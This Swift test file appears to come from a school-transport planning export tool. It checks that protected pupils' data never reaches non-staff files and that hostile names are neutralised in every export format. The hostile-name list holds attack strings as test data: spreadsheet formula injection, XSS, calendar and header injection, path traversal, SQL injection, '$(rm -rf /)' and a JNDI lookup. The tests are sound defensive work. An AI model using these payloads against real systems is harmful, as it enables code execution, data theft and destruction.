import Foundation
import PlanFixtures
import Quantities
import Tables
import Testing
import TransportModel

@testable import Exports

/// Protected pupils with names, addresses, ids and places of their own are looked for in every byte that others read.
@Suite struct CanaryTests {
    /// The lane with maps, everybody protected in turn.
    private func files(_ change: (inout Batch, inout Plan) -> Void) throws -> [String: [UInt8]] {
        var batch = Lane.batch()
        var plan = Lane.plan(for: batch)
        change(&batch, &plan)
        let writer = PlanWriter(
            plan: plan, batch: batch, network: try LaneMap().network, settings: Lane.settings(for: plan),
            previous: PlanTables(plan: plan, batch: batch))
        let parent = FileManager.default.temporaryDirectory.appendingPathComponent("canary-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: parent) }
        let folder = parent.appendingPathComponent("plan")
        try writer.stage(for: folder).finish(adding: [], run: RunRecord(threads: 1))
        var files: [String: [UInt8]] = [:]
        for path in try FileManager.default.subpathsOfDirectory(atPath: folder.path) {
            files[path] = try? FileBytes.read(folder.appendingPathComponent(path).path)
        }
        return files
    }

    /// The bytes, and those of what is packed in them.
    private func layers(_ bytes: [UInt8]) -> [[UInt8]] {
        guard bytes.starts(with: [0x50, 0x4B]), let archive = try? ZIPReader(bytes) else { return [bytes] }
        return [bytes] + archive.entries.compactMap { try? archive.contents(of: $0) }
    }

    /// Places as text of some decimals and as the doubles that packages hold.
    private func traces(of place: Place) -> [[UInt8]] {
        let numbers = [place.point.longitude, place.grid.x]
        let texts = numbers.flatMap { number in [4, 6].compactMap { DecimalText.fixed(number, decimals: $0) } }
        return texts.filter { $0.count > 6 }.map { Array($0.utf8) }
            + numbers.map { withUnsafeBytes(of: $0.bitPattern.littleEndian) { Array($0) } }
    }

    @Test(arguments: [0, 1, 2, 3, 4]) func `a protected pupil is in no byte that others read`(_ number: Int) throws {
        var secrets: [(what: String, bytes: [UInt8])] = []
        let found = try files { batch, plan in
            let pupil = Index<Pupil>(number)
            for other in batch.pupils.indices { batch.pupils[other].isProtected = other == pupil }
            batch.pupils[pupil].id = "CANARY-77\(number)"
            batch.pupils[pupil].name = "Kanariefågel Kanarialintu"
            secrets = [("id", Array("CANARY-77\(number)".utf8)), ("name", Array("Kanariefågel".utf8))]
            for (position, home) in batch.pupils[pupil].homes.enumerated() {
                // A place of its own, off the places of others.
                let metres = Lane.metres(batch.homes[home].place.point) + 0.37
                batch.homes[home].place = Lane.place(metres)
                batch.homes[home].address = "Hemliggränd 9\(position)"
                secrets.append(("address", Array("Hemliggränd".utf8)))
                secrets += traces(of: batch.homes[home].place).map { ("place", $0) }
            }
        }
        let withIDs = ["decisions.csv", "assignments.csv", "stop_options.csv", "review.csv", "findings.csv"]
        #expect(found.count > 25)
        for (path, bytes) in found where !path.hasPrefix("staff/") {
            for layer in layers(bytes) + [Array(path.utf8)] {
                for secret in secrets where !(secret.what == "id" && withIDs.contains(path)) {
                    #expect(!contains(layer, secret.bytes), "\(path) holds the \(secret.what)")
                }
            }
        }
        // The same search does find what staff have.
        let staff = found.filter { $0.key.hasPrefix("staff/") }.values.flatMap(layers)
        #expect(staff.contains { contains($0, secrets[0].bytes) } && staff.contains { contains($0, secrets[1].bytes) })
    }

    private func contains(_ bytes: [UInt8], _ word: [UInt8]) -> Bool {
        Data(bytes).range(of: Data(word)) != nil
    }
}

/// Names that try to be something else, in every format.
@Suite struct HostileNameTests {
    static let names = [
        "=HYPERLINK(\"http://evil\";\"x\")", "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1+1",
        "<script>alert(1)</script>", "\"><svg onload=alert(1)>", "'><img src=x onerror=alert(1)>", "</title><script>",
        "<!--", "]]>", "&lt;script&gt;", "&#60;script&#62;", "javascript:alert(1)", "{{m.skip}}", "{{{title}}}",
        "{name}",
        "\u{202E}gnirts", "\u{2066}x\u{2069}", "a\u{200D}b", "\u{FEFF}bom", "a\u{0}b", "a\u{1B}[31mred", "a\u{7F}b",
        "x\r\nBEGIN:VEVENT\r\nSUMMARY:evil", "x\nATTENDEE:mailto:evil", "x;y,z\\n", "%0d%0aSet-Cookie:x", "..\\..\\etc",
        "../../../etc/passwd", "CON", "';DROP TABLE stops;--", "\" OR 1=1", "$(rm -rf /)", "`id`", "${jndi:ldap://x}",
        "🚌👩‍👧‍👦", "x\u{2028}y", "_x003D_1", "zz\u{FFFE}",
    ]

    @Test(arguments: Array(stride(from: 0, to: names.count, by: 7)))
    func `a hostile name comes out harmless in every format`(_ start: Int) throws {
        let chosen = (0..<7).map { HostileNameTests.names[(start + $0) % HostileNameTests.names.count] }
        var batch = Lane.batch()
        for number in 0..<5 { batch.pupils[Index(number)].name = chosen[number] }
        batch.schools[Index(0)].name = chosen[5]
        batch.municipality.name = chosen[6]
        batch.depots[Index(0)].name = chosen[0]
        for number in 0..<2 { batch.stops[Index(number)].name = chosen[number + 2] }
        for home in batch.homes.indices { batch.homes[home].address = chosen[1] }
        let files = try WrittenLane(batch: batch).files()
        for (path, bytes) in files { try expectHarmless(bytes, path) }
    }

    private func expectHarmless(_ bytes: [UInt8], _ path: String) throws {
        let text = String(decoding: bytes, as: UTF8.self)
        switch path.split(separator: ".").last {
        case "html":
            let own = text.components(separatedBy: "<script>\n//").count - 1
            #expect(text.components(separatedBy: "<script").count - 1 == own, "\(path)")
            for word in ["<img", "<svg onload", "\u{202E}", "\u{2066}", "\u{0}", "\u{1B}"] {
                #expect(!text.contains(word), "\(path)")
            }
            #expect(!text.contains("javascript:") || !text.contains("href=\"javascript:"), "\(path)")
        case "csv": try expectGuarded(bytes, path)
        case "json", "geojson": _ = try JSONReader.read(bytes)
        case "ics":
            let lines = text.components(separatedBy: "\r\n")
            #expect(
                !lines.contains { $0.hasPrefix("ATTENDEE") || $0 == "SUMMARY:evil" } && !text.contains("\u{0}"),
                "\(path)")
            #expect(lines.count { $0 == "BEGIN:VEVENT" } == lines.count { $0 == "END:VEVENT" })
        case "jsonl": for line in text.split(separator: "\n") { _ = try JSONReader.read(Array(line.utf8)) }
        case "gpkg": for mark in ["\u{202E}", "\u{2066}", "\u{2028}"] { #expect(!contains(bytes, mark), "\(path)") }
        case "vrp":
            // A name is one line: nothing in it can start a section of its own.
            #expect(text.components(separatedBy: "\n").count { $0.hasPrefix("NAME") } == 1, "\(path)")
            #expect(!text.contains("\r") && !text.contains("ATTENDEE"), "\(path)")
        case "zip", "xlsx":
            let archive = try ZIPReader(bytes)
            for entry in archive.entries {
                let part = try archive.contents(of: entry)
                if entry.name.hasSuffix(".txt") { try expectGuarded(part, "\(path) \(entry.name)") }
                if entry.name.hasSuffix(".xml") { #expect(!String(decoding: part, as: UTF8.self).contains("<f>")) }
            }
        case let other: Issue.record("nobody looks into files that end in \(other ?? "nothing")")
        }
    }

    private func contains(_ bytes: [UInt8], _ word: String) -> Bool { Data(bytes).range(of: Data(word.utf8)) != nil }

    /// No cell starts with what a spreadsheet runs; numbers may be negative. The bytes are read as they stand, as reading
    /// them back would take the guard off.
    private func expectGuarded(_ bytes: [UInt8], _ path: String) throws {
        let text = String(decoding: bytes, as: UTF8.self)
        for match in text.matches(of: /(?m)(?:^|,)"?([=+\-@\t\r＝＋－＠][^,\n"]*)/) {
            #expect(Double(match.output.1) != nil, "\(path): \(match.output.1)")
        }
        #expect(try CSVTable(bytes).problems.isEmpty, "\(path)")
    }
}
